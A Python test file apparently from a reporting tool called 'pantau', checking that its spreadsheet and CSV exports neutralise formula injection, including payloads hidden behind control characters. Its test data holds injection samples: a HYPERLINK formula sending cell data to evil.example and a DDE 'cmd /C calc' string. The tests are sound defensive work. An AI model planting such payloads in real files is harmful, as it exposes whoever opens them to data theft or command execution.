"""No file pantau writes for a spreadsheet holds a live formula, whatever a name or title starts with.

The guard runs after openpyxl's cleaning (which drops control characters), so a control
character in front of ``=`` cannot smuggle a formula through; the status CSV and the registry
export carry the same guard, and the export still comes back unchanged through import.
"""

from __future__ import annotations

import csv
import io
import json

import openpyxl
import yaml

from pantau.alerts.sheets import table_csv, workbook_xlsx
from pantau.config.cells import escape, unescape

HEADER = "institution,region,platform,handle,url,feed_url,owner_email,dormant_after_days,note\n"
RECIPIENT = """
[[recipients]]
name = "Komdigi"
email = "pantau@komdigi.go.id"
regions = ["*"]
"""
HOSTILE = [
    '\x01=HYPERLINK("http://evil.example/?d="&A2,"Lihat")',
    "\x07+cmd|' /C calc'!A0",
    "\x02@SUM(1+9)",
    "\x1b-2+3",
    "=1+1",
    "'=1+1",
    "''quoted",
    "'Pemkab'",
    "@mention",
]
SPREADSHEET_FORMULA = ("=", "+", "-", "@")


def live(value: str) -> bool:
    return value[:1] in SPREADSHEET_FORMULA or (value[:1] != "" and value[0] < " ")


def test_a_control_character_before_a_formula_does_not_give_a_live_xlsx_formula(tmp_path):
    path = tmp_path / "laporan.xlsx"
    path.write_bytes(workbook_xlsx([("Dorman", ["Instansi", "Judul"], [[h, h] for h in HOSTILE])]))

    cells = [c for row in openpyxl.load_workbook(path).active.iter_rows(min_row=2) for c in row]
    # It should store every cell as text, none as a formula, none starting like one
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert [c.value for c in cells if live(c.value)] == []
    assert cells[0].value == '\'=HYPERLINK("http://evil.example/?d="&A2,"Lihat")'


def test_the_report_csv_neutralises_a_cell_starting_with_a_control_character(tmp_path):
    rows = list(csv.reader(io.StringIO(table_csv(["Instansi"], [[h] for h in HOSTILE]).decode("utf-8-sig"))))

    # It should put ' in front of every cell a spreadsheet could evaluate, control character or not
    assert [r[0] for r in rows[1:] if live(r[0])] == []
    assert rows[1][0] == "'" + HOSTILE[0]


def test_the_weekly_xlsx_keeps_an_institution_with_a_control_character_as_text(project):
    project.config.write_text(project.config.read_text() + RECIPIENT)
    name = '\x01=HYPERLINK("http://evil.example/","Lihat")'
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerow(
        [name, "16.06", "website", "", "https://mubakab.go.id", "", "", "", ""]
    )
    project.write("registry.csv", HEADER + buf.getvalue())
    assert project.run("registry", "import", "registry.csv").returncode == 0
    now = "2024-11-22T03:00:00+00:00"
    assert project.run("attest", "1", "--date", "2024-08-01", now=now).returncode == 0

    done = project.run("report", "weekly", "--week", "2024-W47", "--out", "laporan", now=now)

    assert done.returncode == 0, done.stderr
    (path,) = (project.root / "laporan").glob("*.xlsx")
    cells = [c for ws in openpyxl.load_workbook(path).worksheets for row in ws.iter_rows() for c in row]
    # It should write the institution as text, not as a live HYPERLINK formula
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert '\'=HYPERLINK("http://evil.example/","Lihat")' in [c.value for c in cells]


def test_status_csv_neutralises_formula_like_names_and_json_stays_exact(project):
    project.write(
        "registry.yaml",
        yaml.safe_dump(
            [
                {"institution": name, "platform": "website", "url": f"https://opd{i}.mubakab.go.id"}
                for i, name in enumerate(HOSTILE)
            ],
            allow_unicode=True,
        ),
    )
    assert project.run("registry", "import", "registry.yaml").returncode == 0

    as_csv = list(csv.DictReader(io.StringIO(project.run("status", "--format", "csv").stdout)))
    as_json = json.loads(project.run("status", "--format", "json").stdout)

    # It should leave no cell a spreadsheet would evaluate in the CSV
    assert [r["institution"] for r in as_csv if live(r["institution"])] == []
    assert "'=1+1" in [r["institution"] for r in as_csv]
    # It should keep the JSON, for scripts, exactly as imported
    assert sorted(r["institution"] for r in as_json) == sorted(HOSTILE)


def test_registry_export_is_formula_safe_and_comes_back_unchanged(project, tmp_path):
    project.write(
        "registry.yaml",
        yaml.safe_dump(
            [
                {"institution": name, "platform": "website", "url": f"https://opd{i}.mubakab.go.id", "note": name}
                for i, name in enumerate(HOSTILE)
            ],
            allow_unicode=True,
        ),
    )
    assert project.run("registry", "import", "registry.yaml").returncode == 0
    out = tmp_path / "export.csv"

    assert project.run("registry", "export", "--out", str(out)).returncode == 0

    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    # It should write no cell a spreadsheet would evaluate
    assert [v for r in rows for v in r.values() if live(v)] == []
    again = project.run("registry", "import", str(out))
    # It should change nothing when imported again, and keep every name exactly
    assert again.returncode == 0, again.stderr
    assert again.stdout.strip() == f"added 0, updated 0, unchanged {len(HOSTILE)}, rejected 0"
    assert sorted(a["institution"] for a in project.accounts()) == sorted(HOSTILE)


def test_escaping_is_undone_exactly_and_leaves_plain_text_alone():
    for text in HOSTILE + ["", "'", "''", "Dinas Kominfo", "'x", "-"]:
        # It should give back exactly what was escaped
        assert unescape(escape(text)) == text
    assert escape("'Pemkab'") == "'Pemkab'" and unescape("'Pemkab'") == "'Pemkab'"
